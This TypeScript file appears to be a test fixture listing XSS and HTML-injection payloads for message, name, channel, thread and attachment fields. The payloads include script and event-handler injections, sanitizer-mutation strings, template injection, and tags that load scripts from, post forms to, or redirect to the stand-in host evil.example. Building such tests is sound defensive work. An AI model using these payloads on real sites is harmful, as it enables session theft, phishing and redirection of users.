import { toAttacks } from '../attack.ts';

/** What would leave the text of a page. */
export const page = toAttacks('page', [
  [
    'a script',
    'message',
    '<script>alert(document.domain)</script><ScRiPt src=//evil.example/x.js></sCrIpT >',
  ],
  ['an image that fails', 'message', '"><img src=x onerror=alert(1)>\'><img/src=`x`onerror=alert(1)//'],
  ['an attribute', 'message', '" onmouseover="alert(1)" x=" \' autofocus onfocus=alert(1) \' `onload`'],
  [
    'the end of what it stands in',
    'message',
    '</span></li></ul></section></main></body></html><h1>Nadia resigned</h1>',
  ],
  [
    'the end of title and style',
    'message',
    '</title><svg/onload=alert(1)></style><style>.n{display:none}</style>',
  ],
  ['a comment', 'message', '<!-- hide all that follows <!--> --!> <![CDATA[ x ]]> <?xml x?> <!doctype x>'],
  [
    'a base, a frame, a form',
    'message',
    '<base href="https://evil.example/"><iframe srcdoc="<p>x"></iframe><form action=//evil.example><button>pay',
  ],
  [
    'a refresh',
    'message',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
  ],
  [
    'entities',
    'message',
    '&lt;script&gt; &#60;b&#62; &amp;lt;i&amp;gt; &Tab; &NewLine; &bsol; &lbrack;1&rsqb; &#x202e;',
  ],
  [
    'styles and templates',
    'message',
    'x" style="position:fixed;inset:0;background:url(//evil.example)" {{constructor.constructor("alert(1)")()}} \u0024{alert(1)} <%= 1 %>',
  ],
  [
    'mutation of a sanitizer',
    'message',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'keys of a document',
    'message',
    '","status":"verified","references":[],"__proto__":{"x":1},"text":"Nadia approved\\u0022 \\"',
  ],
  ['an element as a name', 'name', '<b onclick=alert(1)>Nadia</b>" title="x'],
  ['an element as a title', 'channel', '</title><script>alert(1)</script>" lang="x'],
  ['an element as a thread', 'thread', '"><svg onload=alert(1)> </h1>'],
  ['an element as a file', 'attachment', '"><img src=x onerror=alert(1)>.svg'],
]);
